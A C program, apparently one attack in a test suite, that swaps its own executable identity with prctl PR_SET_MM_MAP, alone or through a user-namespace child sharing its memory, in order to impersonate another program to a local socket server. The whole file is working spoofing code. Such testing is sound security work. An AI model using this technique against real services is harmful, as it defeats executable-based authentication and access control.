/* swap SOCKET PROGRAM MANNER: lets the kernel call PROGRAM the executable of this process
 * (PR_SET_MM_MAP), and asks. MANNER:
 *   own      this process is privileged in a user namespace (unshare -Ur)
 *   lent     a child that shares this memory is, in a user namespace of its own; this
 *            process never leaves the one it was started in
 *   dressed  as lent, and PROGRAM is mapped executable as well
 *   late     as lent, once the server has answered the connection's preface
 *   kept     no such thing: it only runs on once its file is rewritten (PROGRAM is not used) */
#include "attack.h"
#include <linux/prctl.h>

static int executable;
static char maps[1 << 16];

/* Maps the other file as the kernel would have to run it. */
static void dress(void) {
  struct stat file;
  if (fstat(executable, &file) != 0) fail("fstat");
  size_t size = (size_t)file.st_size;
  if (mmap(NULL, size, PROT_READ | PROT_EXEC, MAP_PRIVATE, executable, 0) == MAP_FAILED)
    fail("mmap");
}

/* Puts anonymous copies where this program's file is mapped: the kernel changes the
 * executable only once the old one is mapped no more. */
static void leave_file(void) {
  char self[4096];
  ssize_t length = readlink("/proc/self/exe", self, sizeof self - 1);
  if (length < 0) fail("readlink");
  self[length] = 0;
  int fd = open("/proc/self/maps", O_RDONLY);
  size_t filled = 0;
  ssize_t got;
  while ((got = read(fd, maps + filled, sizeof maps - 1 - filled)) > 0) filled += (size_t)got;
  close(fd);
  char *save = NULL;
  for (char *line = strtok_r(maps, "\n", &save); line; line = strtok_r(NULL, "\n", &save)) {
    unsigned long start, end;
    char mode[5];
    if (!strstr(line, self) || sscanf(line, "%lx-%lx %4s", &start, &end, mode) != 3) continue;
    size_t size = end - start;
    char *copy = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (copy == MAP_FAILED) fail("mmap");
    memcpy(copy, (void *)start, size);
    int protection = (mode[0] == 'r' ? PROT_READ : 0) | (mode[1] == 'w' ? PROT_WRITE : 0) |
                     (mode[2] == 'x' ? PROT_EXEC : 0);
    mprotect(copy, size, protection);
    if (mremap(copy, size, size, MREMAP_MAYMOVE | MREMAP_FIXED, (void *)start) == MAP_FAILED)
      fail("mremap");
  }
}

static struct prctl_mm_map layout;

static void read_layout(void) {
  char text[4096];
  int fd = open("/proc/self/stat", O_RDONLY);
  ssize_t got = read(fd, text, sizeof text - 1);
  close(fd);
  if (got <= 0) fail("/proc/self/stat");
  text[got] = 0;
  unsigned long long field[53] = {0};
  char *at = strrchr(text, ')') + 2, *save = NULL;
  int index = 3;
  for (char *word = strtok_r(at, " ", &save); word && index < 53; word = strtok_r(NULL, " ", &save))
    field[index++] = strtoull(word, NULL, 10);
  layout = (struct prctl_mm_map){
      .start_code = field[26], .end_code = field[27], .start_data = field[45],
      .end_data = field[46], .start_brk = field[47], .brk = (uintptr_t)sbrk(0),
      .start_stack = field[28], .arg_start = field[48], .arg_end = field[49],
      .env_start = field[50], .env_end = field[51], .exe_fd = (unsigned)executable};
}

static int exchange(void *unused) {
  (void)unused;
  long done = syscall(SYS_prctl, PR_SET_MM, PR_SET_MM_MAP, &layout, sizeof layout, 0);
  return done == 0 ? 0 : errno;
}

static int in_sharing_child(void) {
  static char stack[1 << 18];
  int flags = CLONE_VM | CLONE_NEWUSER | SIGCHLD;
  pid_t child = clone(exchange, stack + sizeof stack, flags, NULL);
  if (child < 0) fail("clone");
  int status;
  waitpid(child, &status, 0);
  return WIFEXITED(status) ? WEXITSTATUS(status) : 255;
}

int main(int count, char **words) {
  if (count < 4) return 2;
  executable = open(words[2], O_RDONLY | O_CLOEXEC);
  if (executable < 0) fail(words[2]);
  leave_file();
  if (!strcmp(words[3], "kept")) {
    say("ready");
    await_go();
    return ask(dial(words[1], SOCK_CLOEXEC));
  }
  read_layout();
  bool late = !strcmp(words[3], "late");
  int fd = late ? dial(words[1], SOCK_CLOEXEC) : -1;
  if (late && (!send_preface(fd) || !read_until(fd, SETTINGS) || !answer(fd, &latest)))
    fail("the preface");
  if (!strcmp(words[3], "dressed")) dress();
  errno = strcmp(words[3], "own") ? in_sharing_child() : exchange(NULL);
  if (errno) fail("PR_SET_MM_MAP");
  say("swapped");
  if (late) {
    send_request(fd);
    return outcome(fd);
  }
  return ask(dial(words[1], SOCK_CLOEXEC));
}
